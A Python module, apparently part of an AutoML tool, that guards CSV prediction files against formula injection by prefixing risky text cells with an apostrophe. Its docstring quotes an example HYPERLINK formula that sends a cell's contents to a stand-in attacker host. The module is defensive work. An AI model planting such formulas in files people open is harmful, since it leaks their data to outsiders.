"""CSV files for people: cells a spreadsheet would run as formulas are written as text.

A CSV file is plain text, but a spreadsheet (Excel, LibreOffice, Google Sheets) that opens it
treats any cell starting with ``=``, ``+``, ``-`` or ``@`` as a *formula*. That is *CSV (or
formula) injection*: a value that came from someone else's data, say the feature
``=HYPERLINK("http://evil.example/?d="&A2, "click")`` or a class label ``@SUM(A1)``, is copied
unchanged into our predictions file, and the person who opens it runs it. Formulas can read
other cells and send them away in a link, or (in older Excel, through DDE) start programs.

The OWASP rule, applied here: a *text* cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or
a carriage return gets a leading apostrophe ``'``, which spreadsheets read as "this is text".
A cell that is a plain number, ``-3.5`` included, stays a number: its minus sign starts no
formula, and prefixing it would turn numbers into text. Machine-to-machine output that must
keep the exact values asks for the raw file instead (``automlops predict --raw``).
"""

from __future__ import annotations

import re

import pandas as pd

__all__ = ["FORMULA_TRIGGERS", "neutralise_cell", "neutralise_frame", "to_people_csv"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")  # as written by to_csv


def neutralise_cell(value: object) -> object:
    """``value`` made safe to open in a spreadsheet: ``'`` before formula-leading text, else unchanged.

    Only strings change: numbers, missing values and dates are returned as they are. A string
    that is a plain negative number as programs write it (``"-12"``, ``"-1.5e-05"``) is kept
    too: a spreadsheet reads it as that number and runs nothing. ``"+1"`` is not how a number
    is written back, and a leading ``+`` starts a formula, so it is neutralised.
    """
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell (and column name) passed through :func:`neutralise_cell`.

    Only columns that can hold text (object, string and category dtypes) are scanned, so
    numeric columns cost nothing and keep their dtype.
    """
    out = frame.copy()
    for i in range(out.shape[1]):
        values = out.iloc[:, i]
        if pd.api.types.is_object_dtype(values) or pd.api.types.is_string_dtype(values) \
                or isinstance(values.dtype, pd.CategoricalDtype):
            out.isetitem(i, values.astype(object).map(neutralise_cell))
    out.columns = [neutralise_cell(c) for c in out.columns]
    return out


def to_people_csv(frame: pd.DataFrame, *, raw: bool = False) -> str:
    """CSV text of ``frame`` (no index) for a person to open; ``raw=True`` keeps every cell as is."""
    return (frame if raw else neutralise_frame(frame)).to_csv(index=False)
